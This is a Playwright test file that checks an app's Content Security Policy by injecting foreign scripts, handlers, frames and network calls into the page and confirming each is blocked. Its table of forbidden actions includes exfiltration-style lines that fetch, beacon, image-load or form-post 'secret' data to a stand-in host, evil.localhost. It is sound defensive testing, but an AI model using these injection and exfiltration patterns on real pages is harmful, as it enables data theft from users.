import { expect, test } from './fixtures';

// A name of this computer: a browser looks some names up before it asks the rules, and a run of tests sends nothing anywhere.
/** What a page would do if something foreign ran in it, and the rule that stops it. */
const FORBIDDEN: [string, string, () => unknown][] = [
  ['a script in the page', 'script-src-elem', () => append('script', { textContent: 'window.foreign = true' })],
  ['a script from elsewhere', 'script-src-elem', () => append('script', { src: 'https://evil.localhost/a.js' })],
  ['a script of text', 'script-src-elem', () => append('script', { src: 'data:text/javascript,window.foreign=true' })],
  [
    'an act in a tag',
    'script-src-attr',
    () => append('div', { innerHTML: '<p onclick="window.foreign = true">x</p>' }).querySelector('p')?.click(),
  ],
  // Later: what a test evaluates is allowed more than the page is.
  ['code from text', 'script-src', () => setTimeout(() => attempt(() => new Function('window.foreign = true')()))],
  ['a style in the page', 'style-src-elem', () => append('style', { textContent: '*{}' })],
  [
    'a style from elsewhere',
    'style-src-elem',
    () => append('link', { rel: 'stylesheet', href: 'https://evil.localhost/a.css' }),
  ],
  ['a picture from elsewhere', 'img-src', () => append('img', { src: 'https://evil.localhost/a.png?secret' })],
  ['a request to elsewhere', 'connect-src', () => fetch('https://evil.localhost/').catch(() => undefined)],
  ['a channel to elsewhere', 'connect-src', () => attempt(() => new WebSocket('wss://evil.localhost/'))],
  ['a signal to elsewhere', 'connect-src', () => navigator.sendBeacon('https://evil.localhost/', 'secret')],
  ['a sound from elsewhere', 'media-src', () => append('audio', { src: 'https://evil.localhost/a.mp3' })],
  ['a plugin', 'object-src', () => append('object', { data: 'https://evil.localhost/a' })],
  ['a frame', 'frame-src', () => append('iframe', { src: 'https://evil.localhost/' })],
  ['a worker of text', 'worker-src', () => attempt(() => new Worker('data:text/javascript,1'))],
  ['another base', 'base-uri', () => append('base', { href: 'https://evil.localhost/' })],
  ['a form', 'form-action', () => append('form', { action: 'https://evil.localhost/', method: 'post' }).submit()],
];

declare function append<K extends keyof HTMLElementTagNameMap>(
  name: K,
  properties: Partial<HTMLElementTagNameMap[K]>,
): HTMLElementTagNameMap[K];
declare function attempt(act: () => unknown): unknown;

test('whatever foreign ran in the page, it could load nothing and send nothing', async ({ app }) => {
  const { page } = app;
  await expect(page.getByText('Auto MPG').first()).toBeVisible();
  await page.evaluate(() => {
    const state = { broken: [] as string[] };
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      state.broken.push(effectiveDirective),
    );
    Object.assign(window, {
      policy: state,
      append: (name: string, properties: object) => {
        const element = Object.assign(document.createElement(name), properties);
        document.body.append(element);
        return element;
      },
      attempt: (act: () => unknown) => {
        try {
          return act();
        } catch {
          return undefined;
        }
      },
    });
  });
  const broken = () =>
    page.evaluate(() => (window as unknown as { policy: { broken: string[] } }).policy.broken.splice(0));
  for (const [what, rule, act] of FORBIDDEN) {
    await page.evaluate(act);
    await expect.poll(broken, what).toContain(rule);
  }
  expect(await page.evaluate(() => 'foreign' in window)).toBe(false);
  // The faults were the point of this test.
  app.faults.splice(0);
});
